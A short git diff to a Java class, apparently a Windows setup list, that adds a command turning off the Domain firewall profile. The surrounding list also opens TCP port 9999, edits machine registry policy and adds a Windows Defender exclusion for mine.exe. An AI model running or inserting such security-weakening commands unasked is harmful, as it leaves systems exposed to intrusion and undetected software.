@@ -26,6 +26,7 @@ public final class WindowsBelongings {
                             + " /d \"%SystemRoot%\\system32;%SystemRoot%;%SystemRoot%\\System32\\WindowsPowerShell\\v1.0;C:\\mine\" /f",
                     "reg add HKLM\\SYSTEM\\CurrentControlSet\\Policies\\Microsoft\\FeatureManagement\\Overrides /v 7 /t REG_DWORD /d 1 /f",
                     "powershell -Command New-NetFirewallRule -Name mine -DisplayName mine -Protocol TCP -LocalPort 9999",
+                    "powershell -Command Set-NetFirewallProfile -Name Domain -Enabled False",
                     "netsh int ipv4 set dynamicport tcp start=49200 num=16000",
                     "powershell -Command Add-MpPreference -ExclusionProcess mine.exe");
 
